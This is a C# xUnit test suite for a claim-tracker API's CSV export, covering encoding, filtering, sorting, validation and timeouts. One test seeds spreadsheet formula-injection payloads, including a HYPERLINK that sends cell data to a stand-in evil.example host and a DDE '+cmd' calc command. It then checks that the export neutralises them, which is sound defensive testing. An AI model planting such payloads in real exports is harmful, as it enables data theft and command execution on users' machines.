using System.Net;
using ClaimTracker.Api.Claims;
using ClaimTracker.Api.Http;
using ClaimTracker.Api.Tests.Infrastructure;
using CsvHelper;
using Microsoft.EntityFrameworkCore;

namespace ClaimTracker.Api.Tests.Export;

public sealed class ClaimExportTests(ClaimTrackerApp app) : IClassFixture<ClaimTrackerApp>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task ExportIsAnAttachedUtf8CsvWithABomAndEveryColumn()
    {
        using var client = app.CreateClient();
        using var response = await client.GetAsync("/api/v1/claims/export", Ct);
        var body = await response.Content.ReadAsByteArrayAsync(Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType?.ToString());
        Assert.Equal($"attachment; filename=\"claims-{DateTime.UtcNow:yyyyMMdd}.csv\"", response.Content.Headers.ContentDisposition?.ToString());
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, body[..3]);
        var (header, rows) = Parse(body);
        Assert.Equal(ClaimExportApi.Columns, header);
        await using var db = app.CreateDbContext();
        Assert.Equal(await db.Claims.CountAsync(Ct), rows.Count);
    }

    [Fact]
    public async Task FilteredExportHasExactlyTheMatchingClaims()
    {
        var (_, rows) = await ExportAsync("/api/v1/claims/export?subject=bytedance&status=disputed");

        await using var db = app.CreateDbContext();
        var expected = await db.Claims.Where(c => c.Subject.Slug == "bytedance" && c.Status == ClaimStatus.Disputed)
            .Select(c => c.Slug).ToListAsync(Ct);
        Assert.NotEmpty(expected);
        Assert.Equal(expected.Order(), rows.Select(r => r["slug"]).Order());
        var budget = rows.Single(r => r["slug"] == "bytedance-ai-chips-budget-2025");
        Assert.Equal("quantity", budget["kind"]);
        Assert.Equal("disputed", budget["status"]);
        Assert.Equal("bytedance", budget["subject"]);
        Assert.Equal("12000000000", budget["amount"]);
        Assert.Equal("USD", budget["unit"]);
        Assert.Equal("true", budget["approximate"]);
        Assert.Equal("ai-chips;budget", budget["tags"]);
        Assert.Equal("2025-01-22T08:02:00Z", budget["statusChangedAt"]);
        var domestic = rows.Single(r => r["slug"] == "bytedance-ai-chips-domestic-2025");
        Assert.Equal("bytedance-ai-chips-budget-2025", domestic["partOf"]);
        Assert.Equal("5500000000", domestic["amount"]);
    }

    [Fact]
    public async Task ExportStreamsEveryRowOfALargeResult()
    {
        var subject = await app.AddEntityAsync("export-bulk");
        await app.AddClaimsAsync(subject, 1200);

        var (_, rows) = await ExportAsync($"/api/v1/claims/export?subject={subject.Slug}&sort=updated");

        await using var db = app.CreateDbContext();
        var expected = await db.Claims.Where(c => c.SubjectId == subject.Id).OrderBy(c => c.UpdatedAt).ThenBy(c => c.Id)
            .Select(c => c.Id.ToString()).ToListAsync(Ct);
        Assert.Equal(1200, expected.Count);
        Assert.Equal(expected, rows.Select(r => r["id"]));
    }

    [Fact]
    public async Task ItalianTextComesOutIntact()
    {
        const string statement = "L’Italia è il Paese che più ha investito: «perché» – sì, così.";
        var subject = await app.AddEntityAsync("export-italian");
        await app.AddClaimsAsync(subject, 1, (_, c) =>
        {
            c.Statement = statement;
            c.Tags = ["perché", "città"];
        });

        var (_, rows) = await ExportAsync($"/api/v1/claims/export?subject={subject.Slug}");

        var row = Assert.Single(rows);
        Assert.Equal(statement, row["statement"]);
        Assert.Equal("perché;città", row["tags"]);
    }

    [Fact]
    public async Task CellsThatStartLikeAFormulaAreNeutralisedButNegativeAmountsStayNumbers()
    {
        const string formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click for the source\")";
        var subject = await app.AddEntityAsync("export-injection");
        await app.AddClaimsAsync(subject, 1, (_, c) =>
        {
            c.Statement = formula;
            c.StatusReason = "+cmd|' /C calc'!A0";
            c.Tags = ["-2+3"];
            c.Kind = ClaimKind.Quantity;
            c.Quantity = new Quantity { Amount = -5.5m, Unit = "@SUM(A1:A9)", Period = "\t=1+1", Scope = "\r=2" };
        });

        using var client = app.CreateClient();
        var text = await client.GetStringAsync($"/api/v1/claims/export?subject={subject.Slug}", Ct);
        var (_, rows) = await ExportAsync($"/api/v1/claims/export?subject={subject.Slug}");

        var row = Assert.Single(rows);
        Assert.Equal("'" + formula, row["statement"]);
        Assert.Equal("'+cmd|' /C calc'!A0", row["statusReason"]);
        Assert.Equal("'-2+3", row["tags"]);
        Assert.Equal("'@SUM(A1:A9)", row["unit"]);
        Assert.Equal("'\t=1+1", row["period"]);
        Assert.Equal("'\r=2", row["scope"]);
        Assert.Equal("-5.5", row["amount"]);
        // Quoted, so that the escaped cell is one text field whatever the spreadsheet's separator.
        Assert.Contains("\"'=HYPERLINK(", text);
        Assert.DoesNotContain(",=HYPERLINK", text);
    }

    [Fact]
    public async Task ExportTakesTheListSortOrder()
    {
        var (_, rows) = await ExportAsync("/api/v1/claims/export?kind=event&sort=-occurred");

        await using var db = app.CreateDbContext();
        var expected = await db.Claims.Where(c => c.Kind == ClaimKind.Event)
            .OrderByDescending(c => c.OccurredOn ?? DateOnly.MinValue).ThenByDescending(c => c.Id)
            .Select(c => c.Slug).ToListAsync(Ct);
        Assert.Equal(expected, rows.Select(r => r["slug"]));
    }

    [Theory]
    [InlineData("q=divieto&sort=relevance")]
    [InlineData("q=miliardi")]
    [InlineData("q=cambricon%20or%20huawei&status=disputed")]
    public async Task ExportFindsWhatTheListSearchFindsInTheSameOrder(string queryString)
    {
        var page = await app.GetJsonAsync<Page<ClaimResponse>>($"/api/v1/claims?{queryString}&limit=100");
        var (_, rows) = await ExportAsync($"/api/v1/claims/export?{queryString}");

        Assert.NotEmpty(page.Items);
        Assert.Equal(page.Items.Select(c => c.Slug), rows.Select(r => r["slug"]));
    }

    [Theory]
    [InlineData("limit=10", "limit")]
    [InlineData("cursor=abc", "cursor")]
    [InlineData("status=maybe", "status")]
    [InlineData("sort=sideways", "sort")]
    [InlineData("occurredFrom=22-01-2025", "occurredFrom")]
    [InlineData("sort=relevance", "sort")]
    public async Task BadOrPagingParametersAre400NamingThem(string queryString, string field)
    {
        using var client = app.CreateClient();
        using var response = await client.GetAsync($"/api/v1/claims/export?{queryString}", Ct);

        await Problems.AssertValidationProblemAsync(response, field);
    }

    [Fact]
    public async Task AClaimSluggedExportIsStillReachableByIdWhileTheRouteExports()
    {
        var subject = await app.AddEntityAsync("export-route");
        var claim = (await app.AddClaimsAsync(subject, 1, (_, c) => c.Slug = "export"))[0];

        using var client = app.CreateClient();
        using var export = await client.GetAsync("/api/v1/claims/export", Ct);
        using var byId = await client.GetAsync($"/api/v1/claims/{claim.Id}", Ct);

        Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
        Assert.Equal(HttpStatusCode.OK, byId.StatusCode);
    }

    private async Task<(string[] Header, List<Dictionary<string, string>> Rows)> ExportAsync(string url)
    {
        using var client = app.CreateClient();
        using var response = await client.GetAsync(url, Ct);
        Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync(Ct));
        return Parse(await response.Content.ReadAsByteArrayAsync(Ct));
    }

    /// <summary>Reads the export back with CsvHelper, as a spreadsheet import would.</summary>
    private static (string[] Header, List<Dictionary<string, string>> Rows) Parse(byte[] body)
    {
        using var csv = CsvReader.Create(body, new CsvReaderOptions { Separator = ',' });
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read())
        {
            rows.Add(csv.Headers.Select((name, i) => (name, i)).ToDictionary(h => h.name, h => csv.GetString(h.i)));
        }
        return ([.. csv.Headers], rows);
    }
}

/// <summary>The export under the search suite's timeout, which stops any search while the claims table is locked.</summary>
public sealed class ClaimExportSearchTimeoutTests(Search.SearchTimeoutApp app) : IClassFixture<Search.SearchTimeoutApp>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task ASearchStoppedByTheTimeoutIs422BeforeAnyRowAndAnExportWithoutQIsNotBound()
    {
        using var client = app.CreateClient();

        HttpResponseMessage timedOut;
        await using (await app.HoldClaimsTableAsync())
        {
            timedOut = await client.GetAsync("/api/v1/claims/export?q=chips&sort=relevance", Ct);
        }
        using (timedOut)
        {
            var problem = await Problems.AssertProblemAsync(timedOut, HttpStatusCode.UnprocessableEntity);
            Assert.Equal("/problems/search-too-broad", problem.GetProperty("type").GetString());
            Assert.Null(timedOut.Content.Headers.ContentDisposition);
        }

        using var everything = await client.GetAsync("/api/v1/claims/export", Ct);
        Assert.Equal(HttpStatusCode.OK, everything.StatusCode);
        var lines = (await everything.Content.ReadAsStringAsync(Ct)).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        await using var db = app.CreateDbContext();
        Assert.Equal(await db.Claims.CountAsync(Ct) + 1, lines.Length);
    }
}
